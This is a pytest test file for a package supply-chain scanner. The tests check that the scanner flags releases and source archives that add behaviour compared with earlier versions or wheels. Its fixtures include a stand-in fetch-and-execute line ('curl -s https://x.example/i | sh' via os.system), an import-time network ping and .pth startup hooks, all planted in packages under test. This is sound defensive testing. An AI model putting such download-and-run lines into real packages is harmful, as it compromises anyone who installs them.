"""A release held against the one before it and a wheel against its source archive, over an index on loopback."""

from __future__ import annotations

import hashlib
import json
from collections import Counter
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from mlsupply.cli import main
from mlsupply.evidence import look
from mlsupply.evidence.package import PackageFacts
from mlsupply.evidence.registry import Registry, Seen
from mlsupply.world import Failure
from tests.loopback_index import File, LoopbackIndex
from tests.test_archives import tarred, zipped

QUIET = b"__version__ = '1'\n"
ASKS = b"import urllib.request\nurllib.request.urlopen('https://x.example/ping')\n"
FETCHES = b"import os\nos.system('curl -s https://x.example/i | sh')\n"
BUILT = b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
BUILT_HERE = b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'


def put(index: LoopbackIndex, version: str, files: Mapping[str, bytes], kind: str = "wheel") -> None:
    if kind == "wheel":
        name, held = f"demo-{version}-py3-none-any.whl", {**files, f"demo-{version}.dist-info/METADATA": b"Name: demo\n"}
        data = zipped(list(held.items()))
    else:
        name, held = f"demo-{version}.tar.gz", {f"demo-{version}/{path}": text for path, text in files.items()}
        data = tarred(list(held.items()))
    digest = hashlib.sha256(data).hexdigest()
    index.project("demo").files.append(
        File(name="demo", version=version, filename=name, data=data, uploaded="2025-01-01T00:00:00Z", sha256=digest)
    )


def inspected(index: LoopbackIndex, tmp_path: Path, *subjects: str) -> dict[str, Any]:
    done = CliRunner().invoke(
        main,
        ["inspect", "--compare", "-o", "json", "--index-url", index.simple, *(subjects or ("demo==1.1",))],
        env={"MLSUPPLY_CACHE_DIR": str(tmp_path / "cache")},
    )
    assert done.exit_code in {0, 1, 3}, done.output
    document: dict[str, Any] = json.loads(done.stdout)
    return document


def ids(document: dict[str, Any]) -> set[str]:
    return {finding["id"] for finding in document["findings"]}


def test_a_release_that_asks_the_network_on_import_where_the_one_before_did_not(
    index: LoopbackIndex, tmp_path: Path
) -> None:
    put(index, "1.0", {"demo/__init__.py": QUIET})
    put(index, "1.1", {"demo/__init__.py": ASKS})
    document = inspected(index, tmp_path)
    assert ids(document) == {"MLS-C051"}
    assert "Since 1.0" in document["findings"][0]["message"]


def test_the_same_again_is_no_difference(index: LoopbackIndex, tmp_path: Path) -> None:
    for version in ("1.0", "1.1"):
        put(index, version, {"demo/__init__.py": ASKS})
        put(index, version, {"demo/__init__.py": ASKS, "pyproject.toml": BUILT}, "sdist")
    document = inspected(index, tmp_path)
    assert not document["findings"]
    assert not document["gaps"]


def test_the_account_in_words_says_what_was_compared(index: LoopbackIndex, tmp_path: Path) -> None:
    for version in ("1.0", "1.1"):
        put(index, version, {"demo/__init__.py": QUIET})
    put(index, "1.1", {"demo/__init__.py": QUIET, "pyproject.toml": BUILT}, "sdist")
    cache = {"MLSUPPLY_CACHE_DIR": str(tmp_path / "cache")}
    words = ["inspect", "--index-url", index.simple, "demo==1.1"]
    said = CliRunner().invoke(main, [*words, "--compare"], env=cache).stdout
    assert "compared with the release before, 1.0, and the other file of the release, demo-1.1.tar.gz: any" in said
    assert "compared" not in CliRunner().invoke(main, words, env=cache).stdout


def test_what_is_compared_is_asked_for_and_looked_into_once(
    index: LoopbackIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for version in ("1.0", "1.1", "1.2"):
        put(index, version, {"demo/__init__.py": ASKS})
        put(index, version, {"demo/__init__.py": ASKS, "pyproject.toml": BUILT}, "sdist")
    pages, looks = Counter[str](), Counter[str]()

    def about(registry: Registry, name: str, version: str = "") -> Seen | Failure:
        pages[f"{name} {version}"] += 1
        return ask(registry, name, version)

    def looked_at(path: Path, *given: Any) -> PackageFacts:
        looks[path.name] += 1
        return look_at(path, *given)

    ask, look_at = Registry.about, look.looked_at
    monkeypatch.setattr(Registry, "about", about)
    monkeypatch.setattr(look, "looked_at", looked_at)
    inspected(index, tmp_path, "demo==1.1", "demo==1.2")
    assert pages == {"demo 1.1": 1, "demo 1.2": 1}
    assert len(looks) == 5  # of 1.0 the wheel alone
    assert set(looks.values()) == {1}


def test_a_wheel_that_does_what_its_source_does_not(index: LoopbackIndex, tmp_path: Path) -> None:
    put(index, "1.0", {"demo/__init__.py": ASKS})
    put(index, "1.1", {"demo/__init__.py": ASKS})
    put(index, "1.1", {"demo/__init__.py": QUIET, "pyproject.toml": BUILT}, "sdist")
    (finding,) = inspected(index, tmp_path)["findings"]
    assert finding["id"] == "MLS-C055"
    assert "demo/__init__.py does what demo-1.1.tar.gz does not" in finding["message"]


@pytest.mark.parametrize(
    ("where", "moment"),
    [("demo/__init__.py", "import"), ("setup.py", "install")],
    ids=["in the package", "while it is built"],
)
def test_a_source_archive_that_does_what_its_wheel_does_not(
    index: LoopbackIndex, tmp_path: Path, where: str, moment: str
) -> None:
    for version in ("1.0", "1.1"):
        put(index, version, {"demo/__init__.py": QUIET})
    put(index, "1.1", {"demo/__init__.py": QUIET, "pyproject.toml": BUILT, where: FETCHES}, "sdist")
    found = [f for f in inspected(index, tmp_path)["findings"] if f["id"] == "MLS-C055"]
    assert found
    assert {finding["moment"] for finding in found} == {moment}
    assert all("demo-1.1.tar.gz" in finding["message"] for finding in found)


def test_what_the_authors_work_with_and_hooks_that_building_writes_are_no_difference(
    index: LoopbackIndex, tmp_path: Path
) -> None:
    hook = b"import demo; demo.start()\n"
    for version in ("1.0", "1.1"):
        put(index, version, {"demo/__init__.py": QUIET, "demo.pth": hook})
    carried = {"demo/_vendor/a-1.dist-info/METADATA": b"Name: a\n"}  # which makes it no wheel
    beside = {"tools/vendored.py": ASKS, "tests/sites/a.pth": hook, **carried}
    put(index, "1.1", {"demo/__init__.py": QUIET, "pyproject.toml": BUILT, **beside}, "sdist")
    assert ids(inspected(index, tmp_path)) == {"MLS-C038"}  # what a hook is, whether or not it is new
    put(index, "1.2", {"demo/__init__.py": QUIET, "demo.pth": hook, "other.pth": hook})
    put(index, "1.2", {"demo/__init__.py": QUIET, "pyproject.toml": BUILT}, "sdist")
    found = inspected(index, tmp_path, "demo==1.2")["findings"]
    assert [f["places"][0]["member"] for f in found if f["id"] == "MLS-C055"] == ["other.pth"]


def test_a_setup_that_asks_git_for_its_version_is_ordinary(index: LoopbackIndex, tmp_path: Path) -> None:
    setup = b"import subprocess\nfrom setuptools import setup\nsetup(version=subprocess.getoutput('git describe'))\n"
    for version in ("1.0", "1.1"):
        put(index, version, {"demo/__init__.py": QUIET})
    put(index, "1.1", {"demo/__init__.py": QUIET, "setup.py": setup}, "sdist")
    assert not inspected(index, tmp_path)["findings"]


@pytest.mark.parametrize(
    ("now", "expected"), [(BUILT_HERE, {"MLS-C054"}), (BUILT.replace(b"setuptools.build_meta", b"hatchling.build"), set())]
)
def test_a_build_backend_that_moved_into_the_tree(
    index: LoopbackIndex, tmp_path: Path, now: bytes, expected: set[str]
) -> None:
    put(index, "1.0", {"demo/__init__.py": QUIET, "pyproject.toml": BUILT}, "sdist")
    put(index, "1.0", {"demo/__init__.py": QUIET})
    put(index, "1.1", {"demo/__init__.py": QUIET, "pyproject.toml": now, "_build/backend.py": QUIET}, "sdist")
    assert ids(inspected(index, tmp_path)) == expected


def test_a_first_release_has_nothing_before_it_and_that_is_said(index: LoopbackIndex, tmp_path: Path) -> None:
    put(index, "1.1", {"demo/__init__.py": QUIET})
    (gap,) = inspected(index, tmp_path)["gaps"]
    assert "no release before it" in gap["detail"]


def test_a_source_archive_that_cannot_be_fetched_is_a_gap_and_the_wheel_is_judged(
    index: LoopbackIndex, tmp_path: Path
) -> None:
    put(index, "1.0", {"demo/__init__.py": QUIET})
    put(index, "1.1", {"demo/__init__.py": FETCHES})
    put(index, "1.1", {"demo/__init__.py": FETCHES, "pyproject.toml": BUILT}, "sdist")
    index.project("demo").files[-1].sha256 = "0" * 64
    document = inspected(index, tmp_path)
    assert {"MLS-C004", "MLS-C051"} <= ids(document)
    assert any("demo-1.1.tar.gz" in gap["detail"] for gap in document["gaps"])


def test_a_scan_compares_what_the_lock_names(index: LoopbackIndex, tmp_path: Path) -> None:
    put(index, "1.0", {"demo/__init__.py": QUIET})
    put(index, "1.1", {"demo/__init__.py": ASKS})
    new = index.project("demo").files[-1]
    (tmp_path / "requirements.txt").write_text(f"demo==1.1 --hash=sha256:{new.sha256}\n")
    (tmp_path / "uv.lock").write_text(
        'version = 1\nrequires-python = ">=3.11"\n[[package]]\nname = "demo"\nversion = "1.1"\n'
        f'source = {{ registry = "{index.simple}" }}\n'
        f'wheels = [{{ url = "{index.url}/files/{new.filename}", hash = "sha256:{new.sha256}", size = {len(new.data)} }}]\n'
    )
    (tmp_path / "requirements.txt").unlink()
    done = CliRunner().invoke(
        main,
        ["scan", "--contents", "changed", "--feed", "embedded", "-o", "json", "--index-url", index.simple, str(tmp_path)],
        env={"MLSUPPLY_CACHE_DIR": str(tmp_path / "cache")},
    )
    assert "MLS-C051" in ids(json.loads(done.stdout)), done.output
